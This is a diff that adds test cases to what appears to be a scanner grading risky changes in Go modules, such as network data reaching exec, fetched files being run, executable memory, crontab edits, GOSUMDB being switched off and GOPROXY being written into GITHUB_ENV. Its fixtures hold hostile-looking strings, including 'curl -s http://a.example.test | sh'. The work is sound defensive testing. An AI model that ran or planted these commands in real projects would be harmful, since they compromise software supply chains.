@@ -86,6 +86,56 @@ const folded = (
 const cases: Readonly<Record<string, readonly Case[]>> = {
   "network-to-exec": [
     {
+      what: "a shell line of a request, in a module that ran no programs",
+      changes: [flow(["request", "net/http.Request"], ["shell", "os/exec.Command"])],
+      known: { had: ["NETWORK"], ways: { existing: [way(`${m}.ServeHTTP`)] } },
+      tier: "block",
+    },
+    {
+      what: "an argument of a request",
+      changes: [
+        flow(["request", "net/http.Request"], run, {
+          sink: {
+            kind: "exec",
+            name: "os/exec.Command",
+            argument: 1,
+            function: `${m}.run`,
+            package: m,
+            site: { position: at(9), source: "" },
+          },
+        }),
+      ],
+      known: { had: ["NETWORK"], ways: { existing: [way(`${m}.ServeHTTP`)] } },
+      tier: "review",
+    },
+    {
+      what: "for existing callers, from a raw address",
+      changes: [flow(fetched, run)],
+      known: {
+        had: ["NETWORK"],
+        ways: { existing: [way(`${m}.Get`)] },
+        values: [{ name: "net/http.Get", value: "http://192.0.2.9/a" }],
+      },
+      tier: "block",
+    },
+    {
+      what: "the same, where the old version knew the address",
+      changes: [flow(fetched, run)],
+      known: {
+        had: ["NETWORK"],
+        ways: { existing: [way(`${m}.Get`)] },
+        values: [{ name: "net/http.Get", value: "http://192.0.2.9/a" }],
+        oldUses: [{ name: "net/http.Get", capabilities: ["NETWORK"], values: ["http://192.0.2.9/b"] }],
+      },
+      tier: "review",
+    },
+    {
+      what: "one version alone, from a raw address",
+      changes: [flow(fetched, run)],
+      known: { mode: "single", values: [{ name: "net/http.Get", value: "http://192.0.2.9/a" }] },
+      tier: "review",
+    },
+    {
       what: "in a module that could do neither",
       changes: [flow(fetched, run)],
       tier: "block",
@@ -125,6 +175,38 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     { what: "the environment", changes: [flow(["environment", "os.Getenv"], run)], tier: "nothing" },
   ],
   "download-and-run": [
+    {
+      what: "a program that the code names, and what becomes of the command",
+      changes: [
+        flow(fetched, ["file", "os.WriteFile"]),
+        call("os/exec.Command", ["EXEC"], { arguments: constants("gofmt", "-w", "table.go") }),
+        call("(*os/exec.Cmd).Run", ["EXEC"]),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "a command that is put together by its fields",
+      changes: [flow(fetched, ["file", "os.WriteFile"]), call("(*os/exec.Cmd).Run", ["EXEC"])],
+      known: { had: ["EXEC"] },
+      tier: "review",
+    },
+    {
+      what: "the go command, which formats",
+      changes: [
+        flow(fetched, ["file", "os.WriteFile"]),
+        call("os/exec.Command", ["EXEC"], { arguments: constants("go", "fmt", "./...") }),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "the go command, which runs something",
+      changes: [
+        flow(fetched, ["file", "os.WriteFile"]),
+        call("os/exec.Command", ["EXEC"], { arguments: constants("go", "run", ".") }),
+      ],
+      known: { had: ["EXEC"] },
+      tier: "review",
+    },
     {
       what: "in a module that could do neither, in a function that callers know",
       changes: [flow(fetched, ["file", "os.WriteFile"]), call("os/exec.Command", ["EXEC"])],
@@ -193,6 +275,14 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
   ],
   "executable-memory": [
     {
+      what: "a thread of Windows that is started",
+      changes: [
+        call("(*syscall.LazyDLL).NewProc", ["SYSTEM_CALLS"], { arguments: constants("CreateThread") }),
+      ],
+      tier: "review",
+      says: /runs what is in memory/u,
+    },
+    {
       what: "memory that is mapped to be run",
       changes: [
         call("syscall.Mmap", ["SYSTEM_CALLS"], { arguments: constants("-1", "0", "4096", "7", "34") }),
@@ -229,6 +319,26 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     },
   ],
   "fetching-shell-line": [
+    {
+      what: "the input of a shell",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("/bin/sh") })],
+      known: { values: [{ name: "strings.NewReader", value: "curl -s http://a.example.test | sh" }] },
+      tier: "block",
+    },
+    {
+      what: "the input of a pager",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("less") })],
+      known: {
+        values: [{ name: "strings.NewReader", value: "install: curl -s http://a.example.test | sh" }],
+      },
+      tier: "nothing",
+    },
+    {
+      what: "a hint beside a shell",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("/bin/sh") })],
+      known: { values: [{ name: "errors.New", value: "install: curl -s http://a.example.test | sh" }] },
+      tier: "nothing",
+    },
     {
       what: "fetch piped to a shell",
       changes: [
@@ -312,6 +422,69 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     },
   ],
   "startup-file-written": [
+    {
+      what: "a table of what runs at fixed times, by its program",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("crontab", "-") })],
+      tier: "review",
+      says: /changes what is run at fixed times: crontab -/u,
+    },
+    {
+      what: "listing that table",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("crontab", "-l") })],
+      tier: "nothing",
+    },
+    {
+      what: "settings of the Go command, for callers that did not ask",
+      changes: [
+        call("os/exec.Command", ["EXEC"], { arguments: constants("go", "env", "-w", "GOSUMDB=off") }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "block",
+    },
+    {
+      what: "asking for such settings",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("go", "env", "GOSUMDB") })],
+      tier: "nothing",
+    },
+    {
+      what: "a service that is enabled, as before",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("systemctl", "enable", "a") })],
+      known: {
+        oldUses: [
+          { name: "os/exec.Command", capabilities: ["EXEC"], values: ["systemctl", "--user", "enable", "a"] },
+        ],
+      },
+      tier: "inform",
+    },
+    {
+      what: "a file that a variable of build servers names",
+      changes: [call("os.OpenFile", ["FILES/WRITE"], { arguments: [{ text: "name" }] })],
+      known: { values: [{ name: "os.LookupEnv", value: "GITHUB_ENV" }] },
+      tier: "review",
+    },
+    {
+      what: "settings of the Go command in it",
+      changes: [call("os.OpenFile", ["FILES/WRITE"], { arguments: [{ text: "name" }] })],
+      known: {
+        values: [
+          { name: "os.LookupEnv", value: "GITHUB_ENV" },
+          { name: "fmt.Fprintln", value: "GOPROXY=http://192.0.2.9" },
+        ],
+      },
+      tier: "block",
+    },
+    {
+      what: "a file that a variable of build servers names, as before",
+      changes: [call("os.OpenFile", ["FILES/WRITE"], { arguments: [{ text: "name" }] })],
+      known: { values: [{ name: "os.LookupEnv", value: "GITHUB_ENV" }], oldTexts: ["GITHUB_ENV"] },
+      tier: "inform",
+    },
+    {
+      what: "a file that another variable names",
+      changes: [call("os.OpenFile", ["FILES/WRITE"], { arguments: [{ text: "name" }] })],
+      known: { values: [{ name: "os.LookupEnv", value: "GITHUB_STEP_SUMMARY" }] },
+      tier: "nothing",
+    },
     {
       what: "keys that may log in",
       changes: [call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("~/.ssh/authorized_keys") })],
@@ -435,6 +608,28 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     },
   ],
   "secrets-to-network": [
+    {
+      what: "the environment, kept by a new function that somebody has to call",
+      changes: [
+        flow(["environment", "os.Getenv"], sent, {
+          steps: [
+            {
+              function: `${m}.New`,
+
+              how: "store",
+              name: "(Client).token",
+              site: { position: at(5), source: "" },
+            },
+          ],
+        }),
+      ],
+      known: {
+        had: ["NETWORK"],
+        ways: { added: [way(`${m}.FromEnvironment`)] },
+        values: [{ name: "net/http.Post", value: "https://api.example.test/v1" }],
+      },
+      tier: "inform",
+    },
     {
       what: "the environment, at start",
       changes: [flow(["environment", "os.Environ"], sent)],
